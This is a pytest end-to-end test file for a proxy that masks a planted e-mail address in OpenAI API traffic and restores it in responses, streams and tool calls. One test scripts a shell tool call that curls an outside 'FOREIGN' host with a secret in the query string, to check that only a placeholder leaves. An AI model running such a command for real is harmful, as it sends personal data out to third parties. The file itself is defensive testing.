"""OpenAI's own package works through the proxy as it does without, and what it sends in confidence stays here."""

import json
from typing import Any

import openai
import pytest

from addons.demo.provider import FakeProvider
from addons.demo.provider.script import FOREIGN
from tests.e2e.harness import OPENAI_KEY, PLANTED, WAYS, Proxy, Way, gpt, placeholders, said, user

MAIL = PLANTED["e-mail"]

pytestmark = pytest.mark.parametrize("way", WAYS)


def test_a_plain_call_is_masked_and_restored(proxy: Proxy, provider: FakeProvider, way: Way) -> None:
    messages: Any = [{"role": "system", "content": f"The user is {MAIL}."}, *user(f"I am {MAIL}")]
    answer = gpt(proxy, way).chat.completions.create(model="m", messages=messages)
    assert answer.choices[0].message.content == f"You said: I am {MAIL}"
    assert answer.usage
    assert answer.usage.total_tokens > 0
    assert len(set(placeholders(provider.received[0]))) == 1
    assert provider.received[0].header("authorization") == f"Bearer {OPENAI_KEY}"


@pytest.mark.parametrize("usage", [False, True])
def test_a_stream_is_restored_though_placeholders_come_in_pieces(
    proxy: Proxy, provider: FakeProvider, way: Way, usage: bool
) -> None:
    text = f"[[say {'word ' * 20}$VALUE and {MAIL} again]] I am {MAIL}"
    more: Any = {"stream_options": {"include_usage": True}} if usage else {}
    chunks = list(gpt(proxy, way).chat.completions.create(model="m", messages=user(text), stream=True, **more))
    pieces = [chunk.choices[0].delta.content or "" for chunk in chunks if chunk.choices]
    assert "".join(pieces) == f"{'word ' * 20}{MAIL} and {MAIL} again"
    assert len(pieces) > 10
    assert any(chunk.usage for chunk in chunks) == usage
    assert [chunk.choices[0].finish_reason for chunk in chunks if chunk.choices][-1] == "stop"


@pytest.mark.parametrize("stream", [False, True])
def test_tools_that_write_files_get_the_real_value(
    proxy: Proxy, provider: FakeProvider, way: Way, stream: bool
) -> None:
    text = (
        f'Save {MAIL}. [[tool write_file {{"path": "a.txt", "content": "to: $VALUE\\n\\"$VALUE\\""}}]]'
        '[[tool shell {"command": ["curl", "$FOREIGN?q=$VALUE"]}]]'
    )
    completions = gpt(proxy, way).chat.completions
    if stream:
        with completions.stream(model="m", messages=user(text)) as events:
            message: Any = events.get_final_completion().choices[0].message
    else:
        message = completions.create(model="m", messages=user(text)).choices[0].message
    write, shell = [json.loads(call.function.arguments) for call in message.tool_calls]
    assert write == {"path": "a.txt", "content": f'to: {MAIL}\n"{MAIL}"'}
    assert shell == {"command": ["curl", f"{FOREIGN}?q={placeholders(provider.received[0])[0]}"]}


def test_a_tools_arguments_and_result_are_masked_in_later_turns(proxy: Proxy, provider: FakeProvider, way: Way) -> None:
    call = {"id": "c1", "type": "function", "function": {"name": "f", "arguments": json.dumps({"to": MAIL})}}
    messages: Any = [
        *user("go"),
        {"role": "assistant", "content": None, "tool_calls": [call]},
        {"role": "tool", "tool_call_id": "c1", "content": f"sent to {MAIL}"},
    ]
    answer = gpt(proxy, way).chat.completions.create(model="m", messages=messages)
    assert answer.choices[0].message.content == f"The tool said: sent to {MAIL}"
    sent = provider.received[0].json["messages"][1]["tool_calls"][0]["function"]["arguments"]
    assert json.loads(sent)["to"] == placeholders(provider.received[0])[0]


def test_an_image_arrives_as_it_was_sent(proxy: Proxy, provider: FakeProvider, way: Way) -> None:
    image = {"type": "image_url", "image_url": {"url": "data:image/png;base64," + "iVBORw0KGgo" * 50}}
    content = [image, {"type": "text", "text": f"whose is it, {MAIL}?"}]
    answer = gpt(proxy, way).chat.completions.create(model="m", messages=user(content))
    assert answer.choices[0].message.content == f"You said: whose is it, {MAIL}? (and 1 image)"
    assert provider.received[0].json["messages"][0]["content"][0] == image


@pytest.mark.parametrize(
    ("status", "error"),
    [(400, openai.BadRequestError), (401, openai.AuthenticationError), (403, openai.PermissionDeniedError),
     (404, openai.NotFoundError), (422, openai.UnprocessableEntityError), (429, openai.RateLimitError),
     (500, openai.InternalServerError), (503, openai.InternalServerError)],
)  # fmt: skip
def test_the_providers_errors_are_the_providers_errors(
    proxy: Proxy, provider: FakeProvider, way: Way, status: int, error: type[openai.APIStatusError]
) -> None:
    text = f"{said('e-mail')} [[status {status} retry-after=7 x-ratelimit-remaining-requests=0]]"
    with pytest.raises(error) as caught:
        gpt(proxy, way).chat.completions.create(model="m", messages=user(text))
    headers = caught.value.response.headers
    assert (headers["retry-after"], headers["x-ratelimit-remaining-requests"]) == ("7", "0")
    assert headers["x-request-id"]


def test_the_package_retries_as_it_would_without_us(proxy: Proxy, provider: FakeProvider, way: Way) -> None:
    text = f"{way} {said('e-mail')} [[status 429 retry-after-ms=1 times=2]]"
    answer = gpt(proxy, way, max_retries=2).chat.completions.create(model="m", messages=user(text))
    assert answer.choices[0].message.content == f"You said: {way} {said('e-mail')}"
    assert [one.status for one in provider.received] == [429, 429, 200]


@pytest.mark.parametrize("fault", ["truncate", "cut", "reset", "error-event"])
def test_a_broken_stream_never_ends_in_silence(proxy: Proxy, provider: FakeProvider, way: Way, fault: str) -> None:
    chunks = gpt(proxy, way).chat.completions.create(model="m", messages=user(f"a tale [[{fault}]]"), stream=True)
    with pytest.raises((openai.APIError, openai.APIConnectionError)):
        list(chunks)


def test_models_and_embeddings_are_served(proxy: Proxy, provider: FakeProvider, way: Way) -> None:
    client = gpt(proxy, way)
    assert "fake-echo" in [model.id for model in client.models.list()]
    assert len(client.embeddings.create(model="m", input=[said("e-mail"), "b"], encoding_format="float").data) == 2
    assert len(placeholders(provider.received[1])) == 1


@pytest.mark.parametrize("stream", [False, True])
def test_responses_are_masked_and_restored(proxy: Proxy, provider: FakeProvider, way: Way, stream: bool) -> None:
    text = f'I am {MAIL} [[tool write_file {{"content": "<$VALUE>"}}]] [[say hi $VALUE!]]'
    responses = gpt(proxy, way).responses
    if stream:
        with responses.stream(model="m", input=text) as events:
            seen = "".join(event.delta for event in events if event.type == "response.output_text.delta")
            answer: Any = events.get_final_response()
        assert seen == f"hi {MAIL}!"
    else:
        answer = responses.create(model="m", input=text)
    assert answer.output_text == f"hi {MAIL}!"
    assert json.loads(answer.output[1].arguments) == {"content": f"<{MAIL}>"}
